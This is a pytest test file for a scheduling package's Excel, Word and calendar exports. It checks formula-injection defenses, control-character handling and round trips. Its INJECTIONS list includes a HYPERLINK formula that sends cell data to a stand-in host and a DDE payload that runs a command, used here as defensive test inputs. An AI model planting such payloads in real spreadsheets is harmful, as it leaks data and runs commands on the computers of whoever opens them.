"""What we write to files: no formula from a title, no crash on a control character, round trips that hold.

Titles and names come from anyone (a pasted web page, a crafted workbook);
the workbook the office opens must show them as text, the documents must be
written whatever they hold, and reading our own files back must give the
same topics (each title made one line, :func:`paperwork.common.one_line`).
"""

from __future__ import annotations

import io
import json
import unicodedata
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from paperwork import draft_schedule, parse_published_text, plan_document, plan_to_xlsx, xlsx_to_plan
from paperwork.common import one_line, plan_for_output, text_from_upload, xml_safe
from paperwork.ics import all_calendars
from solver.validate import parse_plan

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "weihai-2023.json"

# OWASP's formula-injection starts, and the payloads that use them.
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "＝1+1",  # full-width forms: an input method turns them into formula starts on editing
    "＋1+1",
    "－2+3",
    "＠SUM(A1:A9)",
]


def sample() -> dict:
    return json.loads(SAMPLE.read_text(encoding="utf-8"))


def plan_with_titles(titles: list[str], *, dept_name: str | None = None):
    d = sample()
    topics = d["topics"]
    for i, title in enumerate(titles):
        t = dict(topics[i % len(topics)], id=f"X{i:03d}", title=title, after=[], fixed_month=None)
        topics.append(t)
    if dept_name is not None:
        d["departments"][0]["name"] = dept_name
    return parse_plan(d)


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def test_no_title_or_name_becomes_a_formula():
    plan = plan_with_titles(INJECTIONS, dept_name="@市工信局")
    data = plan_to_xlsx(plan, draft_schedule(plan))
    risky = 0
    for sheet, c in cells(data):
        assert c.data_type != "f", (sheet, c.coordinate, c.value)
        if isinstance(c.value, str) and c.value[:1] in "=+-@＝＋－＠":
            assert c.quotePrefix, (sheet, c.coordinate, c.value)  # Excel keeps it text when edited
            risky += 1
    # every injected title appears on 议题 and on 月历; the department's name on several sheets
    assert risky >= 2 * len(INJECTIONS)


def test_injected_titles_come_back_from_the_workbook_unchanged():
    plan = plan_with_titles(INJECTIONS, dept_name="@市工信局")
    back = xlsx_to_plan(plan_to_xlsx(plan))
    assert [t.title for t in back.topics] == [one_line(t.title) for t in plan.topics]
    assert back.departments[0].name == "@市工信局"
    assert back.topic_by_id()["X002"].title == "=1+1"


CONTROL = [
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x07",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\x9f",
    "\u2028",
    "\ud800",
    "\udfff",
    "\ufffe",
]


def titles_with_controls() -> list[str]:
    base = [t["title"] for t in sample()["topics"]]
    out = []
    for i, ch in enumerate(CONTROL):
        title = base[i % len(base)]
        cut = len(title) // 2
        out.append(title[:cut] + ch + title[cut:])
    out.append("\n" + base[0] + "\n")  # at both ends
    return out


def test_control_characters_do_not_crash_the_exports_and_the_workbook_round_trips():
    plan = plan_with_titles(titles_with_controls(), dept_name="市工信\x07局")
    schedule = draft_schedule(plan)
    back = xlsx_to_plan(plan_to_xlsx(plan, schedule))
    assert [t.title for t in back.topics] == [one_line(t.title) for t in plan.topics]
    assert back.departments[0].name == "市工信局"
    # what came back is clean: a second trip changes nothing
    assert xlsx_to_plan(plan_to_xlsx(back)).to_dict() == back.to_dict()
    assert all_calendars(plan, schedule)  # the calendars are written too


def nfkc(s: str) -> str:
    return unicodedata.normalize("NFKC", s)


def test_a_line_break_in_a_title_does_not_split_the_topic_in_the_document():
    d = sample()
    for i, t in enumerate(d["topics"]):
        cut = len(t["title"]) // 2
        t["title"] = t["title"][:cut] + CONTROL[i % len(CONTROL)] + t["title"][cut:]
    plan = parse_plan(d)
    data = plan_document(plan, draft_schedule(plan))
    draft = parse_published_text(text_from_upload("计划.docx", data), year=plan.year)
    assert len(draft.plan.topics) == len(plan.topics)
    assert Counter(nfkc(t.title) for t in draft.plan.topics) == Counter(nfkc(one_line(t.title)) for t in plan.topics)


def test_a_preamble_with_control_characters_is_written():
    plan = plan_with_titles([])
    data = plan_document(plan, draft_schedule(plan), preamble="一、总体要求\n坚持\x07团结\x00民主\ud800。")
    assert "坚持团结民主" in text_from_upload("计划.docx", data)


_ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), min_size=1, max_size=30)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(titles=st.lists(_ANY_TEXT.filter(lambda t: one_line(t) != ""), min_size=1, max_size=4))
def test_any_title_round_trips_through_the_workbook(titles):
    plan = plan_with_titles(titles)
    back = xlsx_to_plan(plan_to_xlsx(plan))
    assert [t.title for t in back.topics] == [one_line(t.title) for t in plan.topics]
    for _, c in cells(plan_to_xlsx(plan)):
        assert c.data_type != "f"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_ANY_TEXT)
def test_one_line_and_xml_safe_are_what_an_office_file_can_hold(text):
    line = one_line(text)
    assert line == one_line(line)  # idempotent: a second trip changes nothing
    assert not any(ch in line for ch in "\n\r\t\x0b\x0c\x85\u2028\u2029")
    assert all(unicodedata.category(ch) not in ("Cc", "Cs") for ch in line)
    safe = xml_safe(text)
    assert all(ord(ch) >= 0x20 or ch in "\t\n\r" for ch in safe)


def test_clean_plans_are_not_copied():
    plan = parse_plan(sample())
    assert plan_for_output(plan) is plan


@pytest.mark.parametrize("export", ["xlsx", "docx"])
def test_exports_of_a_clean_plan_keep_every_title(export):
    plan = parse_plan(sample())
    schedule = draft_schedule(plan)
    if export == "xlsx":
        assert xlsx_to_plan(plan_to_xlsx(plan, schedule)).to_dict() == plan.to_dict()
    else:
        text = text_from_upload("计划.docx", plan_document(plan, schedule))
        for t in plan.topics:
            assert nfkc(t.title) in nfkc(text)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_ANY_TEXT)
def test_what_one_line_gives_the_plan_file_reader_accepts(text):
    # the cleaner on the way out and the check on the way in agree: an exported title reads back anywhere
    from solver.io import not_one_line

    assert not_one_line(one_line(text)) is None


@pytest.mark.parametrize("odd", ["\n", "\r\n", "\u2028", "\u2029", "\x85", "\u200b", "\ufeff", "\u202e", "\u2066"])
def test_a_title_cell_typed_with_a_break_or_an_invisible_character_imports_as_one_line(odd, tmp_path):
    from solver.io import not_one_line, read_plan_file

    plan = parse_plan(sample())
    wb = load_workbook(io.BytesIO(plan_to_xlsx(plan)))
    ws = wb["议题"]
    title_col = next(i for i, c in enumerate(ws[1], 1) if c.value == "议题名称")
    ws.cell(row=3, column=title_col).value = f"发展{odd}交通"
    leaders = wb["领导"]
    role_col = next(i for i, c in enumerate(leaders[1], 1) if c.value == "职务")
    leaders.cell(row=2, column=role_col).value = f"副{odd}市长"
    buf = io.BytesIO()
    wb.save(buf)
    back = xlsx_to_plan(buf.getvalue())
    assert all(not_one_line(t.title) is None for t in back.topics)
    assert all(not_one_line(x.role) is None for x in back.leaders)
    path = tmp_path / "计划.json"  # and the plan written from it is one every entry reads
    path.write_text(json.dumps(back.to_dict(), ensure_ascii=False), encoding="utf-8")
    assert len(read_plan_file(path)[0].topics) == len(plan.topics)
